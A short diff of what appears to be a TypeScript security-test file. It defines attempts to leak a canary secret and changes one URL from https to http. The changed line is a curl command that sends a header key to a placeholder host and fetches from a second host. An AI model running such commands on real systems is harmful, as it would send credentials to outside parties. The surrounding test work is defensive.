@@ -365,7 +365,7 @@ for name, value in (("placeholder", key), ("random", guess), ("half", key[: len(
 /** What leads to a secret, and is known to: see "The canary" in docs/SECURITY.md. Told only at the end, as it leaves traces on the host. */
 export const readElsewhere: Attempt = {
   name: "read elsewhere",
-  bash: `${curl} -H "X-Key: $HEADER_KEY" https://${api}/keep; ${curl} https://${other}/kept`,
+  bash: `${curl} -H "X-Key: $HEADER_KEY" https://${api}/keep; ${curl} http://${other}/kept`,
 };
 
 /** A part of an answer is none that a whole secret is in. */
